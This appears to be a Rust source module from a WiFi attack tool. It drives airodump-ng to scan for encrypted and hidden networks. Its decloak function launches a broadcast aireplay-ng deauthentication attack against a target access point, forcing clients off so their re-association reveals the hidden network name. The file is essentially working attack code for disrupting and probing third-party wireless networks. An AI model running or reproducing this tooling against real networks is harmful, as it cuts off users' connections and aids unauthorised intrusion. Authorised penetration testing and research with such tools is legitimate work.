//! Network scanning and hidden-SSID decloaking

use tracing::{info, instrument, warn};

use airhook_common::{
    airodump_artifact, remove_artifacts, AccessPoint, AirhookResult, EngineContext, ToolCommand,
};

use crate::catalog::NetworkCatalog;
use crate::csv::parse_access_points;

/// Run a channel-hopping airodump-ng for the scan window and catalog what it saw.
#[instrument(skip(ctx), fields(iface = %ctx.interface))]
pub async fn scan_networks(ctx: &EngineContext) -> AirhookResult<NetworkCatalog> {
    info!("Starting WiFi network scan...");
    let prefix = ctx.unique_prefix("scan");
    let cmd = ToolCommand::new("airodump-ng")
        .arg("-w")
        .path_arg(&prefix)
        .args(["--output-format", "csv"])
        .arg(ctx.interface.as_str());

    if ctx.observe(&cmd, ctx.options.scan_window).await? {
        warn!("Scanning stopped by user");
    }

    let artifact = airodump_artifact(&prefix, "csv");
    let catalog = match tokio::fs::read(&artifact).await {
        Ok(bytes) => NetworkCatalog::from_scan_csv(&String::from_utf8_lossy(&bytes)),
        Err(e) => {
            warn!("Scan results not readable at {}: {}", artifact.display(), e);
            NetworkCatalog::new()
        }
    };
    remove_artifacts(&prefix).await;

    if catalog.is_empty() {
        warn!("No encrypted or hidden networks detected");
    } else {
        info!("Found {} encrypted or hidden networks", catalog.len());
    }
    Ok(catalog)
}

/// Try to learn the name of a hidden network by kicking its clients and
/// watching them re-associate. Returns `None` if the name stays hidden.
#[instrument(skip(ctx, target), fields(bssid = %target.bssid))]
pub async fn decloak(ctx: &EngineContext, target: &AccessPoint) -> Option<String> {
    if let Some(name) = &target.essid {
        return Some(name.clone());
    }

    info!("Attempting to decloak hidden SSID for {}", target.bssid);
    let prefix = ctx.unique_prefix("decloak");
    let capture = ToolCommand::new("airodump-ng")
        .args(["--bssid", &target.bssid.to_string()])
        .args(["--channel", &target.channel.to_string()])
        .arg("-w")
        .path_arg(&prefix)
        .args(["--output-format", "csv"])
        .arg(ctx.interface.as_str());

    let mut process = match ctx.runner.spawn(&capture).await {
        Ok(p) => p,
        Err(e) => {
            warn!("Decloak capture failed to start: {}", e);
            return None;
        }
    };

    let deauth = ToolCommand::new("aireplay-ng")
        .args(["--deauth", &ctx.options.deauth_count.to_string()])
        .args(["-a", &target.bssid.to_string()])
        .arg(ctx.interface.as_str());
    if let Err(e) = ctx.runner.launch_detached(&deauth) {
        warn!("Broadcast deauth failed: {}", e);
    }

    if ctx.interrupt.sleep(ctx.options.decloak_window).await {
        warn!("Decloaking stopped by user");
    }
    if let Err(e) = process.terminate(ctx.options.terminate_grace).await {
        warn!("{}: {}", process.describe(), e);
    }

    let artifact = airodump_artifact(&prefix, "csv");
    let revealed = match tokio::fs::read(&artifact).await {
        Ok(content) => parse_access_points(&String::from_utf8_lossy(&content))
            .into_iter()
            .find(|ap| ap.bssid == target.bssid)
            .and_then(|ap| ap.essid),
        Err(_) => None,
    };
    remove_artifacts(&prefix).await;

    match &revealed {
        Some(name) => info!("Hidden SSID decloaked: {}", name),
        None => warn!("Failed to decloak SSID for {}", target.bssid),
    }
    revealed
}
